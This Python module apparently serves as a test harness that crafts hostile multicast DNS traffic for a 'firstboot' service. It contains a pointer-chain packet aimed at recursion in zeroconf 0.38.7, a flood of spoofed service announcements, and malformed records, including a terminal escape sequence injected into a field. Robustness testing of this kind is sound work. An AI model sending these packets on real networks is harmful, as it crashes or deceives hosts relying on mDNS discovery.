"""Packets of multicast DNS, made by hand, as nobody decent would send them."""

import random
import socket
import struct
import threading
import time
from collections.abc import Iterator
from dataclasses import replace

from firstboot.contract import SERVICE, Announcement

GROUP = ("224.0.0.251", 5353)
PTR, TXT, SRV = 12, 16, 33

POISON = (
    struct.pack("!6H", 0, 0x8400, 1, 0, 0, 0)
    + b"".join(struct.pack("!H", 0xC000 | (14 + 2 * n)) for n in range(1400))
    + b"\0"
)
"""A name of pointers, each to the next: a recursion per pointer in zeroconf 0.38.7."""


def name(text: str) -> bytes:
    labels = [label.encode() for label in text.rstrip(".").split(".")]
    return b"".join(bytes([len(label)]) + label for label in labels) + b"\0"


def record(owner: str, kind: int, data: bytes, ttl: int = 4500) -> bytes:
    return name(owner) + struct.pack("!HHIH", kind, 1, ttl, len(data)) + data


def response(instance: str, *entries: bytes) -> bytes:
    owner = f"{instance}.{SERVICE}"
    text = b"".join(bytes([len(entry)]) + entry for entry in entries)
    records = [
        record(SERVICE, PTR, name(owner)),
        record(owner, SRV, struct.pack("!3H", 0, 0, 6422) + name(f"{instance}.local.")),
        record(owner, TXT, text),
    ]
    return struct.pack("!6H", 0, 0x8400, 0, len(records), 0, 0) + b"".join(records)


def saying(announcement: Announcement, **other: str) -> bytes:
    txt = {**announcement.to_txt(), **other}
    return response(announcement.name, *(f"{key}={value}".encode() for key, value in txt.items()))


class Attack:
    """Sends, from a thread of its own, for as long as the process lives."""

    def __init__(self, address: str, master: Announcement) -> None:
        self._address = address
        self._master = master

    def start(self, how: str) -> None:
        threading.Thread(target=self._send, args=(how,), daemon=True).start()

    def _send(self, how: str) -> None:
        sent, pause = {
            "poison": (self._poison(), 0.02),
            "flood": (self._flood(), 60 / 10_000),
            "garbage": (self._garbage(), 0.01),
        }[how]
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as wire:
            wire.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(self._address))
            wire.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            wire.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
            wire.bind((self._address, 5353))  # where mDNS comes from: else it is passed over
            for packet in sent:
                wire.sendto(packet, GROUP)
                time.sleep(pause)

    def _poison(self) -> Iterator[bytes]:
        while True:
            yield POISON

    def _flood(self) -> Iterator[bytes]:
        """Announcements that are as good as the master's own."""
        number = 0
        while True:
            number += 1
            yield saying(replace(self._master, name=f"x{number}", serial=f"{number:016x}"))

    def _garbage(self) -> Iterator[bytes]:
        dice = random.Random(6422)
        odd = replace(self._master, name="odd")
        good = saying(odd)
        full = [b"k%d=" % n + b"x" * 252 for n in range(5)]
        while True:
            yield from (
                saying(odd, v="2"),
                saying(odd, addr="172.17.0.1"),
                saying(odd, addr="::1"),
                saying(odd, addr=""),
                saying(odd, serial="9" * 240),
                saying(odd, phase="\x1b[2J"),
                response("odd", *full),
                response("odd", b"v=1", *[b"cluster=" + bytes([255]) * 247] * 4),
                response("odd", b"=", b"", b"=="),
                good[: dice.randrange(len(good) // 2)],  # cut later, it would say less, but something
                dice.randbytes(dice.randrange(1400)),
                struct.pack("!6H", 0, 0x8400, 0, 65535, 65535, 65535) + dice.randbytes(400),
            )
